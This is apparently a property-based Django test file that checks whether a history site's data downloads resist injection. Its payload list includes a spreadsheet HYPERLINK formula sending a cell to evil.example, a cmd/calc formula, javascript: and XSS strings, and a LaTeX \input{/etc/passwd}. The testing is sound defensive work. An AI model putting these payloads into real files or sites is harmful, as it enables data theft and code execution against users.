"""Output safety of the downloads (issue 13): whatever an editor-writable field holds,
however it got there (a form, loaddata, SQL, the shell), every download stays
well-formed in its own format, no CSV cell runs as a formula, and no address that
is not http(s) goes out. Property-based: hypothesis puts injection payloads in
every text field of every record a download reads."""

import csv
import io
import json
from html.parser import HTMLParser

import bibtexparser
import pytest
from django.db import models
from django.test import RequestFactory
from django.utils import translation
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree
from pybtex.database import parse_string

from history import safety
from history.downloads import list_download
from history.models import AidProgram, Conference, Event, Organization, Province, Source
from history.safety import (
    FORMULA_TRIGGERS,
    outgoing_url,
    read_spreadsheet_cell,
    spreadsheet_cell,
    url_may_go_out,
    xml_text,
)
from history.timeline import timeline_records

from .factories import (
    AidProgramFactory,
    ConferenceFactory,
    EventFactory,
    OrganizationFactory,
    ParticipationFactory,
    ProvinceFactory,
    SourceFactory,
    cited,
)

PAYLOADS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "'=1",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "}\n@misc{injected, title={x}}\n",
    "{",
    "\\input{/etc/passwd}",
    "100% & $5 #1 _x_ ~ ^",
    "]]><evil/>",
    "\x01\x08\x0b\x1b\x7f",
    "\u202eevil",
    "http://user:password@example.org/",
    " https://example.org/space",
    "https://example.org/ok?a=1&b={2}",
]
text = st.text(st.characters(exclude_characters="\x00", exclude_categories=("Cs",)), max_size=30)
payload = st.one_of(st.sampled_from(PAYLOADS), text, st.tuples(st.sampled_from(PAYLOADS), text).map("".join))
DOWNLOADS = [
    ("event", "csv"),
    ("event", "json"),
    ("conference", "csv"),
    ("aidprogram", "csv"),
    ("aidprogram", "json"),
    ("aidprogram", "iati"),
    ("source", "csv"),
    ("source", "json"),
    ("source", "csl-json"),
    ("source", "bibtex"),
    ("timeline", "timelinejs"),
    ("timeline", "csv"),
]
MODELS = {"event": Event, "conference": Conference, "aidprogram": AidProgram, "source": Source}


def writable_text_fields(model):
    """Every text column an editor can write (slugs and status are keys, not text)."""
    return [
        field.attname
        for field in model._meta.concrete_fields
        if isinstance(field, models.CharField | models.TextField)
        and field.editable
        and not field.choices
        and field.name not in ("slug", "search_text")
    ]


def fit(field_name, model, value):
    return value[: model._meta.get_field(field_name).max_length or None]


def download(kind, fmt):
    with translation.override("en"):
        request = RequestFactory().get("/", {"format": fmt})
        records = timeline_records() if kind == "timeline" else MODELS[kind].objects.all()
        response = list_download(request, kind, records)
        return b"".join(response.streaming_content).decode("utf-8")


class TagCollector(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


@pytest.fixture
def records(db):
    organization = OrganizationFactory(organization_type="media")
    program = cited(AidProgramFactory(amount="1000.00"))
    ParticipationFactory(aidprogram=program, organization=organization)
    program.provinces.add(ProvinceFactory())
    cited(EventFactory())
    cited(ConferenceFactory())
    SourceFactory(publisher=organization, source_type="article-newspaper")
    SourceFactory(source_type="report", author="A. Writer")


def check_csv(body):
    rows = list(csv.reader(io.StringIO(body.removeprefix("\ufeff"))))
    assert len(rows) >= 2
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS), cell


def check_urls(values):
    for value in values:
        assert value == "" or url_may_go_out(value), value


def check(kind, fmt, body):
    if fmt == "csv":
        check_csv(body)
    elif fmt == "json":
        rows = json.loads(body)
        check_urls([row.get(column, "") for row in rows for column in ("source_url", "archive_url")])
    elif fmt == "csl-json":
        check_urls([item.get("URL", "") for item in json.loads(body)])
    elif fmt == "bibtex":
        library = bibtexparser.parse_string(body)
        assert not library.failed_blocks and len(library.entries) == Source.objects.published().count()
        check_urls([entry.fields_dict["url"].value for entry in library.entries if "url" in entry.fields_dict])
        parse_string(body, "bibtex")
    elif fmt == "iati":
        etree.fromstring(body.encode("utf-8"))
    elif fmt == "timelinejs":
        for slide in json.loads(body)["events"]:
            parser = TagCollector()
            parser.feed(slide["text"]["headline"] + slide["text"]["text"])
            assert {tag for tag, _attrs in parser.tags} <= {"p", "a"}
            check_urls([attrs.get("href", "") for _tag, attrs in parser.tags])


@settings(
    max_examples=25,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(data=st.data())
@pytest.mark.usefixtures("records")
def test_payloads_in_every_field_leave_every_download_safe(data):
    for model in (Event, Conference, AidProgram, Source, Organization, Province):
        values = {name: fit(name, model, data.draw(payload)) for name in writable_text_fields(model)}
        model.objects.update(**values)
    for url_field in ("url", "archive_url"):
        Source.objects.update(**{url_field: fit(url_field, Source, data.draw(payload))})
    for kind, fmt in DOWNLOADS:
        check(kind, fmt, download(kind, fmt))


# The functions every writer uses.


@pytest.mark.parametrize(
    "url",
    [
        "https://example.org/",
        "http://example.org/path?q=1#part",
        "HTTPS://EXAMPLE.ORG/",
        "https://ja.wikipedia.org/wiki/日本",
        "https://[2001:db8::1]:8443/x",
    ],
)
def test_addresses_that_may_go_out(url):
    assert url_may_go_out(url) and outgoing_url(url) == url


@pytest.mark.parametrize(
    "url",
    [
        "",
        None,
        "javascript:alert(1)",
        "JAVASCRIPT:alert(1)",
        "data:text/html,x",
        "vbscript:x",
        "ftp://example.org/",
        "/relative/path",
        "//example.org/no-scheme",
        "https://",
        "http:///path",
        "http://user:pw@example.org/",
        "http://user@example.org/",
        " https://example.org/",
        "https://example.org/\n",
        "https://exa\tmple.org/",
        "https://example.org/\u202e",
        "https:\\\\example.org\\",
        "https://example.org:notaport/",
        "https://" + "a" * 2000 + ".org/",
    ],
)
def test_addresses_that_may_not(url):
    assert not url_may_go_out(url) and outgoing_url(url) == ""


@given(st.text(alphabet=st.characters(max_codepoint=0x7F)) | st.text())
def test_an_ascii_address_is_checked_for_invisible_characters_as_any_other(text):
    """The ASCII shortcut of history.safety gives what the check character by
    character gives (controls, format characters and spaces of any script)."""
    # With a letter that is not ASCII (and is no invisible character) after it, the
    # same text is checked character by character.
    assert safety._unprintable(text) == safety._unprintable(text + "é")


@given(st.text())
def test_a_neutralised_cell_reads_back_as_the_value(value):
    cell = spreadsheet_cell(value)
    assert read_spreadsheet_cell(cell) == value
    assert not cell.startswith(FORMULA_TRIGGERS)


def test_a_cell_is_neutralised_as_owasp_recommends():
    assert spreadsheet_cell("=1+1") == "'=1+1"
    assert spreadsheet_cell("\t=1") == "'\t=1"
    assert spreadsheet_cell("Tokyo") == "Tokyo" and spreadsheet_cell(None) == ""


def test_xml_text_keeps_what_xml_can_carry():
    assert xml_text("a\x01b\x1bc\td\ne\ufffe") == "abc\td\ne"
    assert xml_text("カブール کابل") == "カブール کابل"
